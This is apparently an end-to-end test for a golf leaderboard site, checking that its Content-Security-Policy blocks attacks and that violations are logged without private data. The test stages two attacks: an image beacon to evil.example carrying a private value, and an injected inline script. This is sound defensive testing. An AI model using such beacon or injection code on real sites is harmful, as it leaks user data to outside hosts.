import type { Page } from 'playwright-core';
import { expect, inject, it } from 'vitest';
import { useProduct } from '../../../support/browser/running.ts';
import { readLog } from '../../../support/browser/sharedProduct.ts';
import { readLeaks } from '../../../support/browser/watchedRun.ts';
import type { LogLine } from '../../../support/server/logLines.ts';

const product = useProduct();
const log = () => readLog(inject('sharedProduct').logFile);

/** Headless Chromium sends no reports by "report-to", and ignores "report-uri" as long as the policy has both. */
const reportByUri = (page: Page) =>
  page.route('**/leaderboard/az', async (route) => {
    const response = await route.fetch();
    const policy = response.headers()['content-security-policy'] ?? '';
    const headers = { ...response.headers(), 'content-security-policy': policy.replace('; report-to policy', '') };
    await route.fulfill({ response, headers });
  });

/** Log lines about policy violations. */
const violations = () =>
  log()
    .split('\n')
    .filter((line) => line.includes('policy_violation'))
    .map((line) => JSON.parse(line) as LogLine)
    .map(({ directive, blocked }) => `${String(directive)} ${String(blocked)}`)
    .toSorted();

it('the browser reports what the Content-Security-Policy blocks, and the server logs it without content of the page', async () => {
  const { page } = await product.newVisitor();
  await reportByUri(page);
  await page.goto(`${product.url}/leaderboard/az`);
  await page.getByRole('heading', { level: 1, name: 'Arizona’s top golf courses' }).waitFor();
  const refused = await page.evaluate(async () => {
    const picture = new Image();
    const isBlocked = new Promise((resolve) => (picture.onerror = () => resolve('blocked')));
    picture.src = 'https://evil.example/pixel.png?of=a-private-golfer';
    const script = document.createElement('script');
    try {
      script.textContent = 'window.isTakenOver = true';
    } catch {
      script.append('window.isTakenOver = true');
    }
    document.head.append(script);
    return [await isBlocked, 'isTakenOver' in window];
  });
  expect(refused).toEqual(['blocked', false]);
  await expect
    .poll(() => [...new Set(violations())])
    .toEqual(['img-src https://evil.example', 'require-trusted-types-for trusted-types-sink']);
  expect(log()).not.toMatch(/a-private-golfer|isTakenOver/);
  // The test violates the policy on purpose.
  expect((await readLeaks()).every((told) => told.startsWith('policy: '))).toBe(true);
});
